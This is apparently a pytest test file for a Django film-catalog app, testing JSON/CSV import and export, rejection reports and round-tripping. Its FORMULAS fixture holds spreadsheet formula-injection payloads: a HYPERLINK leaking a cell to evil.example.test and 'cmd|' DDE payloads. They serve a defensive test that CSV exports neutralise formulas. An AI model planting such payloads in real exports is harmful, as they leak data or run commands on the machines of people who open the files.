"""Catalog import and export: JSON and CSV, reports, idempotent re-imports."""

import csv
import json
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from afterword.catalog.importing import KINDS, FileError, import_file
from afterword.catalog.models import (
    Credit,
    Organisation,
    Person,
    Release,
    Role,
    Work,
    WorkRelation,
)
from afterword.catalog.roles import seed_roles

SAMPLES = Path(__file__).parent / "samples"


def statuses(report, kind):
    return [(r.row, r.key, r.status) for r in report.results if r.kind == kind]


def test_a_broken_row_among_good_ones_is_named_and_the_rest_import(db):
    report = import_file(SAMPLES / "mixed.json")
    rejected = {(r.kind, r.row): r.reason for r in report.rejected}
    # Loop A takes Loop B as parent; Loop B then cannot take Loop A.
    assert set(rejected) == {
        ("works", 4),
        ("works", 5),
        ("credits", 3),
        ("releases", 2),
        ("relations", 2),
    }
    assert rejected[("credits", 3)] == (
        "There is no person “ghost-person” in the catalog or the file."
    )
    assert "date must be a date like 2004-06-15" in rejected[("releases", 2)]
    assert "cannot be related to itself" in rejected[("relations", 2)]
    assert "parent: A work cannot be its own parent." in rejected[("works", 5)]
    assert rejected[("works", 4)] == (
        "parent: “Loop A” is already a part of “Loop B” (directly or further "
        "down), so it cannot also be its parent. The work's other fields were "
        "saved; its parent was not."
    )
    assert Work.objects.get(slug="loop-a").parent.slug == "loop-b"
    assert Work.objects.get(slug="loop-b").parent is None
    gits = Work.objects.get(slug="ghost-in-the-shell-1995")
    assert sorted((c.role.slug, c.credited_name) for c in gits.credits.all()) == [
        ("animation-studio", "Production I.G"),
        ("director", "Mamoru Oshii"),
        ("music", "Kenji Kawai"),
    ]
    assert Work.objects.get(slug="gits-part-1").parent.slug == "gits-parts"
    assert Release.objects.get(work=gits).in_print is False
    assert WorkRelation.objects.count() == 1


def test_reimporting_the_same_file_changes_nothing(db):
    import_file(SAMPLES / "mixed.json")
    counts = (Work.objects.count(), Credit.objects.count(), Release.objects.count())
    report = import_file(SAMPLES / "mixed.json")
    counts_after = (
        Work.objects.count(),
        Credit.objects.count(),
        Release.objects.count(),
    )
    assert counts_after == counts
    good = [r for r in report.results if r.status != "rejected"]
    assert {r.status for r in good} == {"unchanged"}


def test_a_changed_row_is_updated_not_duplicated(catalog, tmp_path):
    data = {
        "works": [
            {
                "slug": "akira-1988",
                "title": "Akira",
                "kind": "anime_film",
                "year": 1988,
                "runtime": 125,
            }
        ]
    }
    path = tmp_path / "fix.json"
    path.write_text(json.dumps(data))
    report = import_file(path)
    assert statuses(report, "works") == [(1, "akira-1988", "updated")]
    assert Work.objects.filter(title="Akira", year=1988).count() == 1
    assert Work.objects.get(slug="akira-1988").runtime == 125


def test_csv_people_report_line_numbers(db):
    report = import_file(SAMPLES / "people.csv")
    assert statuses(report, "people") == [
        (2, "satoshi-kon", "created"),
        (3, "mamoru-oshii", "created"),
        (5, "", "rejected"),
        (6, "hayao-miyazaki", "created"),
    ]
    assert (
        report.rejected[0].reason
        == "slug must be a slug (like “satoshi-kon”), not “Not A Slug”."
    )
    assert Person.objects.get(slug="mamoru-oshii").alternative_name_list == [
        "Oshii Mamoru",
        "M. Oshii",
    ]


def test_csv_credits_for_unknown_people_are_rejected(db):
    import_file(SAMPLES / "mixed.json")
    report = import_file(SAMPLES / "credits.csv")
    assert statuses(report, "credits") == [
        (2, "ghost-in-the-shell-1995", "unchanged"),
        (3, "ghost-in-the-shell-1995", "rejected"),
        (4, "", "rejected"),
        (5, "ghost-in-the-shell-1995", "unchanged"),
    ]
    reasons = [r.reason for r in report.rejected]
    assert reasons == [
        "There is no person “nobody-we-know” in the catalog or the file.",
        "applies_to_parts must be yes or no, not “maybe”.",
    ]


def test_csv_works_with_a_bad_year(db):
    report = import_file(SAMPLES / "works.csv")
    assert statuses(report, "works") == [
        (2, "ghost-in-the-shell-1995", "created"),
        (3, "", "rejected"),
    ]
    assert report.rejected[0].reason == (
        "year must be a whole number, not “nineteen-ninety-three”."
    )


def test_an_unreadable_file_is_refused_whole(db):
    with pytest.raises(FileError, match="not valid JSON"):
        import_file(SAMPLES / "broken.json")
    assert Work.objects.count() == 0


def test_the_command_prints_the_report(db, capsys):
    call_command("import_catalog", str(SAMPLES / "mixed.json"))
    out, err = capsys.readouterr()
    assert "works: 4 created, 0 updated, 0 unchanged, 2 rejected" in out
    assert (
        "Rejected credits row 3 (ghost-in-the-shell-1995): There is no person "
        "“ghost-person” in the catalog or the file."
    ) in out
    assert "5 row(s) rejected; the other rows were imported." in err


def test_the_command_explains_an_unknown_extension(db, tmp_path):
    path = tmp_path / "catalog.txt"
    path.write_text("{}")
    with pytest.raises(CommandError, match="Cannot tell the format of catalog.txt"):
        call_command("import_catalog", str(path))


def test_json_export_round_trips(catalog, tmp_path, capsys):
    call_command("export_catalog")
    exported = capsys.readouterr().out
    data = json.loads(exported)
    assert len(data["works"]) == Work.objects.count()
    memories = next(w for w in data["works"] if w["slug"] == "magnetic-rose-1995")
    assert memories["parent"] == "memories-1995"
    path = tmp_path / "catalog.json"
    path.write_text(exported)
    report = import_file(path)
    assert {r.status for r in report.results} == {"unchanged"}


def test_csv_export_writes_a_file_per_kind_that_imports_back(catalog, tmp_path):
    call_command("export_catalog", "--format", "csv", "--output", str(tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "credits.csv",
        "organisations.csv",
        "people.csv",
        "relations.csv",
        "releases.csv",
        "works.csv",
    ]
    report = import_file(tmp_path / "releases.csv")
    assert statuses(report, "releases") == [
        (2, "memories-1995", "unchanged"),
        (3, "memories-1995", "unchanged"),
    ]
    Work.objects.filter(slug="akira-1988").update(runtime=1)
    report = import_file(tmp_path / "works.csv")
    assert [r.key for r in report.results if r.status == "updated"] == ["akira-1988"]
    assert Work.objects.get(slug="akira-1988").runtime == 124


# Text a spreadsheet would run as a formula, and text that only looks close.
FORMULAS = [
    '=HYPERLINK("https://evil.example.test/?leak="&A1,"Click me")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted once",
    "''+twice",
]
HARMLESS = ["'Round Midnight", "Perfect Blue", "A-side", "ends with ="]
# What makes a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_catalog():
    """A catalog whose text fields start with what a spreadsheet would run."""
    seed_roles(Role)
    org = Organisation.objects.create(
        name=FORMULAS[0], slug="evil-studio", description=FORMULAS[1]
    )
    person = Person.objects.create(
        name=FORMULAS[2],
        slug="evil-person",
        native_name=FORMULAS[3],
        alternative_names="\n".join(FORMULAS[4:] + HARMLESS),
        bio=FORMULAS[0],
    )
    works = [
        Work.objects.create(
            title=title,
            slug=f"work-{n}",
            original_title=FORMULAS[(n + 1) % len(FORMULAS)],
            alternative_titles="\n".join(FORMULAS),
            synopsis=title,
            country=FORMULAS[3],
            year=1995,
        )
        for n, title in enumerate(FORMULAS + HARMLESS)
    ]
    Credit.objects.create(
        work=works[0],
        person=person,
        role=Role.objects.get(slug="voice"),
        character_name=FORMULAS[1],
    )
    Release.objects.create(
        work=works[0],
        format=Release.Format.BLURAY,
        region=FORMULAS[2],
        edition=FORMULAS[3],
        distributor=org,
        aspect_ratio=FORMULAS[4],
        audio_languages=FORMULAS[5],
        notes=FORMULAS[0],
    )
    WorkRelation.objects.create(
        source=works[0],
        target=works[1],
        kind=WorkRelation.Kind.REMAKE_OF,
        note=FORMULAS[2],
    )


TEXT_FIELDS = {
    Organisation: ["name", "kind", "native_name", "description", "website"],
    Person: ["name", "native_name", "alternative_names", "bio", "links"],
    Work: ["title", "original_title", "alternative_titles", "country", "synopsis"],
    Credit: ["character_name"],
    Release: ["region", "edition", "aspect_ratio", "audio_languages", "notes"],
    WorkRelation: ["note"],
}


def catalog_text() -> dict[str, list[tuple]]:
    return {
        model.__name__: sorted(model.objects.values_list(*fields))
        for model, fields in TEXT_FIELDS.items()
    }


def test_csv_export_cells_never_start_a_formula(db, tmp_path):
    hostile_catalog()

    call_command("export_catalog", "--format", "csv", "--output", str(tmp_path))

    cells = [
        (path.name, cell)
        for path in sorted(tmp_path.glob("*.csv"))
        for row in csv.reader(path.open(encoding="utf-8", newline=""))
        for cell in row
    ]
    runnable = [(name, c) for name, c in cells if c.startswith(FORMULA_STARTS)]
    assert runnable == []
    # One apostrophe more than the value had, whatever it had.
    assert ("works.csv", "'" + FORMULAS[0]) in cells
    assert ("works.csv", "''=already quoted once") in cells
    assert ("works.csv", "'''+twice") in cells
    # Text that no spreadsheet runs is written as it is.
    assert ("works.csv", "Perfect Blue") in cells
    assert ("works.csv", "'Round Midnight") in cells


def test_csv_export_imports_back_to_the_same_values(db, tmp_path):
    hostile_catalog()
    before = catalog_text()
    call_command("export_catalog", "--format", "csv", "--output", str(tmp_path))
    for model in (WorkRelation, Release, Credit, Work, Person, Organisation):
        model.objects.all().delete()

    for kind in KINDS:
        call_command("import_catalog", str(tmp_path / f"{kind}.csv"))

    assert catalog_text() == before
    again = [import_file(tmp_path / f"{kind}.csv") for kind in KINDS]
    assert {r.status for report in again for r in report.results} == {"unchanged"}


def test_a_number_in_another_script_is_refused_on_import(db, tmp_path):
    path = tmp_path / "works.csv"
    path.write_text(
        "slug,title,year,runtime\n"
        "memories-1995,Memories,١٩٩٥,\n"
        "paprika-2006,Paprika,2006,９０\n"
        "akira-1988,Akira,1988,124\n",
        encoding="utf-8",
    )

    report = import_file(path)

    assert [r.reason for r in report.rejected] == [
        "year must be a whole number, not “١٩٩٥”.",
        "runtime must be a whole number, not “９０”.",
    ]
    assert list(Work.objects.values_list("slug", "year", "runtime")) == [
        ("akira-1988", 1988, 124)
    ]
